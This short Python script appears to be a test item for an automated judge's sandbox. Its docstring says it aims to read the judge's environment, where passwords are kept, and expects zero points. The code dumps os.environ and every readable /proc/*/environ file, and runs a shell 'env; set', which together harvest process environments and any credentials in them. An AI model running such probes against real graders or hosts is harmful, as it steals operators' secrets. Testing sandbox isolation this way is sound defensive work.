"""Reads the judge's environment, where passwords are kept, from every place where it stands.

points: 0
says: variables
"""

import os
import subprocess
from glob import glob

print(len(os.environ), "variables", dict(os.environ))
if FACTS["variable"] in os.environ:
    print("GOT", os.environ[FACTS["variable"]])
for place in glob("/proc/*/environ"):
    try:
        with open(place) as file:
            print(place, file.read())
    except OSError:
        pass
print(subprocess.run(["/bin/sh", "-c", "env; set"], capture_output=True, text=True).stdout)
